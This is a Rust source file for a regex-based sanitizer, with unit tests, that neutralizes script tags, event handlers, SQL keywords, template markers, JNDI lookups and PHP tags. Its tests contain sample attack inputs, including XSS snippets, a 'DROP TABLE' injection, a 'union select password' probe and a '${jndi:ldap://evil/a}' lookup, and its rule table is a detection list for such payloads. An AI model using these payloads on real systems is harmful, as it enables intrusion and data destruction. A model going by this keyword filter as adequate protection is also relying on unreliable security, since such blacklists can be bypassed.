//! Free-text sanitization
//!
//! Neutralizes substrings a downstream renderer or interpreter could execute.
//!
//! All rules live in one prioritized table and are applied in a single
//! left-to-right pass: the leftmost match wins, and when two rules match at
//! the same position the one listed first wins. More specific rules
//! (`${jndi:` before `${`, `<?php` before `<?`) are therefore listed first.
//!
//! Every replacement is built only from entity text (`&...;`) plus the
//! letters of the matched keyword, none of which any rule matches on, so
//! `sanitize(sanitize(x)) == sanitize(x)`.

use lazy_static::lazy_static;
use regex::{Captures, Regex};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Pass {
    Markup,
    Sql,
    Template,
    Php,
}

struct Rule {
    pass: Pass,
    /// Regex fragment; must not contain capture groups
    pattern: &'static str,
    encode: fn(&str) -> String,
}

static RULES: &[Rule] = &[
    // Markup: tags, URI schemes, inline event handlers
    Rule {
        pass: Pass::Markup,
        pattern: r"(?i:</(?:script|iframe|object|embed|img|form|input|textarea))",
        encode: encode_chars,
    },
    Rule {
        pass: Pass::Markup,
        pattern: r"(?i:<(?:script|iframe|object|embed|img|form|input|textarea))",
        encode: encode_chars,
    },
    Rule {
        pass: Pass::Markup,
        pattern: r"(?i:(?:javascript|vbscript|data)\s*:)",
        encode: encode_chars,
    },
    Rule {
        pass: Pass::Markup,
        pattern: r"(?i:on(?:load|error|click|mouseover|mouseout|focus|blur|change|submit)\s*=)",
        encode: encode_chars,
    },
    // SQL meta
    Rule {
        pass: Pass::Sql,
        pattern: r#"['"]\s*;\s*(?i:drop(?:\s+table)?)"#,
        encode: encode_quoted_drop,
    },
    Rule {
        pass: Pass::Sql,
        pattern: r"(?i:union\s+select(?:\s+from)?)",
        encode: encode_keyword_run,
    },
    Rule {
        pass: Pass::Sql,
        pattern: r"(?i:drop\s+table|delete\s+from|truncate\s+table|insert\s+into|update\s+set|select\s+from)",
        encode: encode_keyword_run,
    },
    Rule {
        pass: Pass::Sql,
        pattern: r"--|/\*|\*/",
        encode: encode_chars,
    },
    // Template / expression injection
    Rule {
        pass: Pass::Template,
        pattern: r"\$\{(?i:jndi|ldap|rmi|dns):",
        encode: encode_chars,
    },
    Rule {
        pass: Pass::Template,
        pattern: r"\$\{|#\{|\{\{|\}\}",
        encode: encode_chars,
    },
    // PHP tags, longest first
    Rule {
        pass: Pass::Php,
        pattern: r"(?i:<\?php)",
        encode: encode_chars,
    },
    Rule {
        pass: Pass::Php,
        pattern: r"<\?=|<\?|\?>",
        encode: encode_chars,
    },
];

/// A compiled single-pass matcher over a subset of [`RULES`]
struct Matcher {
    regex: Regex,
    rules: Vec<&'static Rule>,
}

impl Matcher {
    fn for_passes(passes: &[Pass]) -> Self {
        let rules: Vec<&'static Rule> = RULES
            .iter()
            .filter(|rule| passes.contains(&rule.pass))
            .collect();

        let pattern = rules
            .iter()
            .map(|rule| format!("({})", rule.pattern))
            .collect::<Vec<_>>()
            .join("|");

        Self {
            regex: Regex::new(&pattern).unwrap(),
            rules,
        }
    }

    fn apply(&self, text: &str) -> String {
        self.regex
            .replace_all(text, |caps: &Captures| {
                let matched = caps
                    .iter()
                    .skip(1)
                    .enumerate()
                    .find_map(|(idx, group)| group.map(|m| (idx, m.as_str())));

                match matched {
                    Some((idx, text)) => (self.rules[idx].encode)(text),
                    None => caps[0].to_string(),
                }
            })
            .into_owned()
    }
}

lazy_static! {
    static ref ALL: Matcher =
        Matcher::for_passes(&[Pass::Markup, Pass::Sql, Pass::Template, Pass::Php]);
    static ref MARKUP: Matcher = Matcher::for_passes(&[Pass::Markup]);
    static ref SQL: Matcher = Matcher::for_passes(&[Pass::Sql]);
    static ref TEMPLATE: Matcher = Matcher::for_passes(&[Pass::Template]);
    static ref PHP: Matcher = Matcher::for_passes(&[Pass::Php]);
}

/// Neutralize every recognized dangerous substring in one pass
pub fn sanitize(text: &str) -> String {
    ALL.apply(text)
}

/// Script-like tags, `javascript:`/`vbscript:`/`data:` schemes and inline event handlers
pub fn sanitize_scripts(text: &str) -> String {
    MARKUP.apply(text)
}

/// SQL keyword pairs, quote-terminated `DROP`, and comment markers
pub fn sanitize_sql(text: &str) -> String {
    SQL.apply(text)
}

/// `{{`, `}}`, `${`, `#{` and JNDI-style lookups
pub fn sanitize_templates(text: &str) -> String {
    TEMPLATE.apply(text)
}

/// `<?php`, `<?=`, `<?`, `?>`
pub fn sanitize_php(text: &str) -> String {
    PHP.apply(text)
}

/// Entity-encode every HTML-significant character. Stricter than [`sanitize`]:
/// no markup at all survives.
pub fn sanitize_html(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            other => out.push(other),
        }
    }
    out
}

fn entity(c: char) -> Option<&'static str> {
    Some(match c {
        '<' => "&lt;",
        '>' => "&gt;",
        '"' => "&quot;",
        '\'' => "&#39;",
        ':' => "&#58;",
        ';' => "&#59;",
        '=' => "&#61;",
        '-' => "&#45;",
        '/' => "&#47;",
        '*' => "&#42;",
        '$' => "&#36;",
        '#' => "&#35;",
        '{' => "&#123;",
        '}' => "&#125;",
        '?' => "&#63;",
        _ => return None,
    })
}

/// Encode punctuation, keep letters and whitespace as they are
fn encode_chars(matched: &str) -> String {
    let mut out = String::with_capacity(matched.len() * 4);
    for c in matched.chars() {
        match entity(c) {
            Some(e) => out.push_str(e),
            None => out.push(c),
        }
    }
    out
}

/// `union  select` -> `UNION&#32;SELECT`
fn encode_keyword_run(matched: &str) -> String {
    matched
        .split_whitespace()
        .map(|word| word.to_ascii_uppercase())
        .collect::<Vec<_>>()
        .join("&#32;")
}

/// `'; drop table` -> `&#39;&#59;&#32;DROP&#32;TABLE`
fn encode_quoted_drop(matched: &str) -> String {
    let quote = if matched.starts_with('"') { "&quot;" } else { "&#39;" };
    let mut out = format!("{}&#59;&#32;DROP", quote);
    if matched.to_ascii_uppercase().ends_with("TABLE") {
        out.push_str("&#32;TABLE");
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_rule_table_compiles() {
        assert_eq!(ALL.rules.len(), RULES.len());
        assert!(!MARKUP.rules.is_empty());
        assert!(!SQL.rules.is_empty());
        assert!(!TEMPLATE.rules.is_empty());
        assert!(!PHP.rules.is_empty());
    }

    #[test]
    fn test_script_tag_is_neutralized() {
        let out = sanitize("<script>alert('x')</script>");
        assert!(!out.contains("<script"));
        assert!(out.contains("&lt;script"));
        assert_eq!(out, "&lt;script>alert('x')&lt;/script>");
    }

    #[test]
    fn test_tags_are_case_insensitive() {
        assert_eq!(sanitize("<SCRIPT src=x>"), "&lt;SCRIPT src=x>");
        assert_eq!(sanitize("<IfRaMe>"), "&lt;IfRaMe>");
    }

    #[test]
    fn test_event_handlers_and_schemes() {
        assert_eq!(
            sanitize("<img src=x onerror=alert(1)>"),
            "&lt;img src=x onerror&#61;alert(1)>"
        );
        assert_eq!(
            sanitize("<a href=\"JavaScript:alert(1)\">"),
            "<a href=\"JavaScript&#58;alert(1)\">"
        );
        assert_eq!(sanitize("vbscript:x data:text"), "vbscript&#58;x data&#58;text");
    }

    #[test]
    fn test_drop_table_is_neutralized() {
        let out = sanitize("'; DROP TABLE Posts; --");
        assert!(!out.to_ascii_uppercase().contains("DROP TABLE"));
        assert_eq!(out, "&#39;&#59;&#32;DROP&#32;TABLE Posts; &#45;&#45;");
    }

    #[test]
    fn test_double_quoted_drop() {
        assert_eq!(sanitize("\"; drop users"), "&quot;&#59;&#32;DROP users");
    }

    #[test]
    fn test_keyword_pairs_are_uppercased() {
        assert_eq!(sanitize("delete   from t"), "DELETE&#32;FROM t");
        assert_eq!(sanitize("Insert Into t"), "INSERT&#32;INTO t");
        assert_eq!(sanitize("truncate table t"), "TRUNCATE&#32;TABLE t");
    }

    #[test]
    fn test_union_select_from_chain() {
        let out = sanitize("x UNION SELECT FROM users");
        assert_eq!(out, "x UNION&#32;SELECT&#32;FROM users");
        assert!(!out.contains("SELECT FROM"));
    }

    #[test]
    fn test_sql_comment_markers() {
        assert_eq!(sanitize("/* x */"), "&#47;&#42; x &#42;&#47;");
        assert_eq!(sanitize("a -- b"), "a &#45;&#45; b");
    }

    #[test]
    fn test_jndi_rule_wins_over_generic_dollar_brace() {
        assert_eq!(
            sanitize("${jndi:ldap://evil/a}"),
            "&#36;&#123;jndi&#58;ldap://evil/a}"
        );
        assert_eq!(sanitize("${JNDI:x}"), "&#36;&#123;JNDI&#58;x}");
        assert_eq!(sanitize("${rmi:x}"), "&#36;&#123;rmi&#58;x}");
    }

    #[test]
    fn test_template_markers() {
        assert_eq!(
            sanitize("Hello ${name} and #{id} {{tpl}}"),
            "Hello &#36;&#123;name} and &#35;&#123;id} &#123;&#123;tpl&#125;&#125;"
        );
    }

    #[test]
    fn test_php_tags_longest_first() {
        assert_eq!(sanitize("<?php echo 1; ?>"), "&lt;&#63;php echo 1; &#63;&gt;");
        assert_eq!(sanitize("<?PHP"), "&lt;&#63;PHP");
        assert_eq!(sanitize("<?= $x ?>"), "&lt;&#63;&#61; $x &#63;&gt;");
        assert_eq!(sanitize("<? x"), "&lt;&#63; x");
    }

    #[test]
    fn test_sub_passes_are_isolated() {
        let input = "<script> DROP TABLE x {{y}} <?php";
        assert_eq!(
            sanitize_scripts(input),
            "&lt;script> DROP TABLE x {{y}} <?php"
        );
        assert_eq!(
            sanitize_sql(input),
            "<script> DROP&#32;TABLE x {{y}} <?php"
        );
        assert_eq!(
            sanitize_templates(input),
            "<script> DROP TABLE x &#123;&#123;y&#125;&#125; <?php"
        );
        assert_eq!(
            sanitize_php(input),
            "<script> DROP TABLE x {{y}} &lt;&#63;php"
        );
    }

    #[test]
    fn test_safe_text_passes_through_unchanged() {
        let safe = [
            "",
            "Just a normal forum post about Rust & friends.",
            "Price: 5 < 6 > 4",
            "It's a \"quote\"; nothing else",
            "a - b / c * d",
            "&lt;already&gt; encoded &#36;&#123;",
        ];
        for text in safe {
            assert_eq!(sanitize(text), text, "changed safe text: {}", text);
            assert_eq!(sanitize(&sanitize(text)), text);
        }
    }

    #[test]
    fn test_sanitize_is_idempotent() {
        let inputs = [
            "<script>alert('x')</script>",
            "'; DROP TABLE Posts; --",
            "1 union   select password from users",
            "UNION SELECT FROM t",
            "${jndi:ldap://evil/a} ${x} #{y} {{z}}",
            "${{{",
            "<?php ?> <?= <?>",
            "/**/ --- */*",
            "<img src=x onerror =alert(1)> javascript :void(0)",
        ];
        for input in inputs {
            let once = sanitize(input);
            assert_eq!(sanitize(&once), once, "not idempotent for: {}", input);
        }
    }

    #[test]
    fn test_sanitize_html_encodes_everything() {
        assert_eq!(
            sanitize_html("<a href='x'>Tom & Jerry</a>"),
            "&lt;a href=&#39;x&#39;&gt;Tom &amp; Jerry&lt;/a&gt;"
        );
        assert_eq!(sanitize_html(""), "");
        assert_eq!(sanitize_html("\"plain\""), "&quot;plain&quot;");
    }
}
